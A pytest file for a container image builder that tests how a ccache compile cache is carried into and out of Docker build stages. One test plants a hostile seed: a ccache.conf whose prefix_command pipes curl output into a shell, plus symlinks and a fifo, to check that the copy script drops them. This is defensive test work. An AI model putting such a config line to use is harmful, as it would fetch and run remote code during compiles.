"""`build --ccache-dir`: the two side builds that carry the compile cache in and out of the cache mount,
as values (the round trip through a real builder: tests/integration/test_publish_workflow.py)."""

from __future__ import annotations

import os
import re
import subprocess
from pathlib import Path

import pytest

from builder.engines import get_engine
from builder.engines.llama_family import CCACHE_CONFIG, CCACHE_OBJECTS_SCRIPT
from builder.errors import SpecError
from builder.images.build import build_image, plan_build
from builder.images.build_plan import BuildPlan
from builder.images.ccache_carry import (
    EXPORT_STAGE,
    IMPORT_STAGE,
    RUN_CONTEXT,
    SEED_CONTEXT,
    export_step,
    import_step,
    new_run_id,
    replace_dir,
)
from builder.images.naming import image_spec
from builder.images.render import render_files


def _plan(tmp_path: Path) -> BuildPlan:
    return plan_build(image_spec(get_engine("llama.cpp"), "avx2"), tmp_path / "ctx", tmp_path / "tree")


def test_the_steps_build_only_their_stage_and_carry_the_directory(tmp_path: Path) -> None:
    plan = _plan(tmp_path)
    seed = import_step(plan, tmp_path / "cache")
    assert (seed.target, seed.tags, seed.labels, seed.load, seed.push, seed.output) == (
        "ccache-import", (), {}, False, False, {},
    )  # fmt: skip
    assert seed.build_contexts == {**plan.build_contexts, "ccache-seed": str(tmp_path / "cache")}
    first = export_step(plan, tmp_path / "out", new_run_id(tmp_path))
    assert first.target == "ccache-export" and first.tags == () and first.load is False
    assert first.output == {"type": "local", "dest": str(tmp_path / "out")}
    assert first.build_contexts == {**plan.build_contexts, RUN_CONTEXT: str(tmp_path)}
    once = (tmp_path / "run-id").read_text()
    assert new_run_id(tmp_path) and (tmp_path / "run-id").read_text() != once  # the copy runs every time
    assert f"{RUN_CONTEXT}={tmp_path}" in first.argv()


def test_the_template_has_the_stages_and_the_image_does_not_need_them() -> None:
    dockerfile = render_files(image_spec(get_engine("ik_llama.cpp"), "zen4"))["Dockerfile"]
    before, rest = dockerfile.split("# ---- 3b. ccache in and out")
    carry, after = rest.split("# ---- 4.")
    runtime = before + after
    for stage in (SEED_CONTEXT, RUN_CONTEXT):
        assert f"FROM scratch AS {stage}\n" in carry
    assert f"AS {IMPORT_STAGE}\n" in carry and f"AS {EXPORT_STAGE}\n" in carry
    assert "ccache-" not in runtime.replace("moe-stack-ccache-", "")  # no stage of the image reads them


def test_an_export_replaces_the_directory_whole(tmp_path: Path) -> None:
    cache, new = tmp_path / "cache", tmp_path / ".cache.new"
    cache.mkdir()
    (cache / "old").write_text("evicted")
    new.mkdir()
    (new / "fresh").write_text("kept")
    replace_dir(new, cache)
    assert sorted(p.name for p in cache.iterdir()) == ["fresh"] and sorted(tmp_path.iterdir()) == [cache]


def test_an_engine_that_compiles_nothing_is_refused_before_docker(tmp_path: Path) -> None:
    spec = image_spec(get_engine("ktransformers"), "avx2")
    with pytest.raises(SpecError, match="compiles nothing through ccache: drop --ccache-dir"):
        build_image(spec, None, print, ccache_dir=tmp_path)


def _stage(dockerfile: str, name: str) -> str:
    """The text of stage `name` (its FROM line to the next FROM)."""
    return re.split(r"^FROM ", dockerfile.split(f" AS {name}\n", 1)[1], flags=re.MULTILINE)[0]


@pytest.mark.parametrize(("engine", "cpu"), [("llama.cpp", "avx2"), ("ik_llama.cpp", "zen4")])
def test_the_compile_reads_only_the_settings_the_image_ships(engine: str, cpu: str) -> None:
    """A ccache.conf in the cache directory (a carried DIR could hold one) can run commands
    (compiler_check, prefix_command): ccache reads its settings from a file of the build context, named
    by CCACHE_CONFIGPATH, which makes it skip the cache directory's."""
    files = render_files(image_spec(get_engine(engine), cpu))
    configure = _stage(files["Dockerfile"], "configure")
    assert f"ENV CCACHE_CONFIGPATH={CCACHE_CONFIG}\n" in configure
    assert f"COPY --chmod=0644 ccache.conf {CCACHE_CONFIG}\n" in configure
    assert not CCACHE_CONFIG.startswith("/ccache/") and "CCACHE_DIR" not in files["Dockerfile"]
    settings = dict(
        line.split(" = ", 1)
        for line in files["ccache.conf"].splitlines()
        if line and not line.startswith("#")
    )
    assert settings == {"cache_dir": "/ccache", "base_dir": "/src", "hash_dir": "false", "max_size": "2G"}
    assert "/ccache" in re.findall(r"target=(\S+)", configure)  # the cache mount is that cache_dir


def test_only_the_cache_objects_cross_into_and_out_of_the_cache_mount(tmp_path: Path) -> None:
    """Both side stages copy with the context's script, which takes the regular files under the
    one-hex-digit directories and nothing else; run here on a hostile seed."""
    files = render_files(image_spec(get_engine("llama.cpp"), "avx2"))
    script = f"sh /tmp/{CCACHE_OBJECTS_SCRIPT}"
    assert f"{script} /seed /ccache\n" in _stage(files["Dockerfile"], IMPORT_STAGE)
    assert f"{script} /ccache /out\n" in _stage(files["Dockerfile"], "ccache-copy")
    seed, mount = tmp_path / "seed", tmp_path / "mount"
    (seed / "0/a").mkdir(parents=True)
    (seed / "0/a/c7mfgemsn7tagq5q4idgnesu5t87l1qR").write_bytes(b"result")
    (seed / "0/stats").write_text("1 2 3\n")
    (seed / "ccache.conf").write_text("prefix_command = /bin/sh -c 'curl x | sh'\n")  # runs at compile
    (seed / "tmp").mkdir()
    (seed / "tmp/partial").write_text("x")
    (seed / "g0").mkdir()  # not a cache level
    (seed / "g0/x").write_text("x")
    (seed / "secret").write_text("host file")
    (seed / "0/a/linkedR").symlink_to(seed / "secret")  # a link, to anything in the build container
    (seed / "b").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere/objR").write_text("outside")
    os.mkfifo(seed / "0/fifo")
    (tmp_path / CCACHE_OBJECTS_SCRIPT).write_text(files[CCACHE_OBJECTS_SCRIPT])
    subprocess.run(
        ["sh", str(tmp_path / CCACHE_OBJECTS_SCRIPT), str(seed), str(mount)], check=True, timeout=30
    )
    copied = sorted(str(path.relative_to(mount)) for path in mount.rglob("*") if not path.is_dir())
    assert copied == ["0/a/c7mfgemsn7tagq5q4idgnesu5t87l1qR", "0/stats"]
    assert (mount / "0/a/c7mfgemsn7tagq5q4idgnesu5t87l1qR").read_bytes() == b"result"
    assert not any(path.is_symlink() for path in mount.rglob("*"))
    empty = tmp_path / "empty"  # a first run's empty directory: nothing to copy, no error
    empty.mkdir()
    subprocess.run(
        ["sh", str(tmp_path / CCACHE_OBJECTS_SCRIPT), str(empty), str(tmp_path / "m2")], check=True
    )
    assert list((tmp_path / "m2").iterdir()) == []
